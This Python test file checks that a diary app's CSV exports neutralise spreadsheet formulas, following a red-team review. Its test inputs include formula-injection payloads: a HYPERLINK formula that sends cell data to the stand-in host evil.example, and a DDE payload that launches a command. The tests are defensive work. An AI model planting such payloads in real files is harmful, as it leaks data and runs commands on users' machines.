"""Hostile and unlucky files (issue 16, items 2, 12, 16 and 20).

A red-team review found: an export whose undo log made the next `undo` run SQL of the
attacker's choosing (2); CSV exports that a spreadsheet would run as formulas (12); an
import that took an id next to the top of SQLite's range, after which every new entry
had an id `edit` and `delete` refuse (16); deeply nested or 5,000-digit JSON and TOML
that ended in "internal error" (20). Each test makes that file for real and runs paceit
on it.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from helpers import checkpoint, done, fails, fixed_clock, logical_dump, ok

pytestmark = pytest.mark.usefixtures("_clock")


@pytest.fixture
def _clock(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with fixed_clock(monkeypatch):
        yield


def _snapshot(path: Path) -> list[str]:
    checkpoint(path)
    return logical_dump(path)


# --- item 12: a CSV export holds no formula a spreadsheet would run -----------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "=1+1",
    "'already quoted",
]


def _csv_cells(files: dict[str, str]) -> list[str]:
    return [cell for name, text in files.items() if name.endswith(".csv") for r in csv.reader(io.StringIO(text)) for cell in r]


def _neutral(cell: str) -> bool:
    """Empty, a plain number (a spreadsheet reads -60 as a number), or not starting with
    what makes a spreadsheet evaluate the cell."""
    return not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("-").replace(".", "", 1).isdigit()


def test_csv_export_neutralises_formulas_and_says_so(isolated_db: Path, tmp_path: Path) -> None:
    ok("activity", "add", "walking", "--unit", "min", "--baseline", "10", "--at", "2026-11-01")
    for formula in FORMULAS:
        ok("pain", "4", "--note", formula, "--site", formula.replace(",", ";"), "--at", "2026-11-20T08:00")
        ok("goal", "add", "--", formula)
    ok("pain", "3", "--at", "2026-11-20T09:00-01:00", "--note", "fine")  # utc_offset -60: a number
    done("export", "--format", "csv", "--output", str(tmp_path / "folder"))
    done("export", "--output", str(tmp_path / "diary.zip"))
    done("export", "--output", str(tmp_path / "diary.json"))
    folder = {p.name: p.read_text() for p in (tmp_path / "folder").iterdir()}
    with zipfile.ZipFile(tmp_path / "diary.zip") as archive:
        zipped = {Path(n).name: archive.read(n).decode() for n in archive.namelist()}
    assert zipped == folder
    cells = _csv_cells(folder)
    assert all(_neutral(c) for c in cells), [c for c in cells if not _neutral(c)]
    for formula in FORMULAS:
        assert "'" + formula in cells  # one apostrophe in front: the text, shown as text
    assert "-60" in cells and "'-60" not in cells and "fine" in cells  # numbers and plain text untouched
    notes = [r["note"] for r in csv.DictReader(io.StringIO(folder["pain_entry.csv"]))]
    assert notes == ["'" + f for f in FORMULAS] + ["fine"]
    assert "apostrophe" in folder["README.txt"] and "formula" in folder["README.txt"]
    stored = json.loads((tmp_path / "diary.json").read_text())["tables"]["pain_entry"]["rows"]
    assert [r["note"] for r in stored] == [*FORMULAS, "fine"]  # the JSON export stays exact
    assert "formula" in ok("export", "--help").stdout
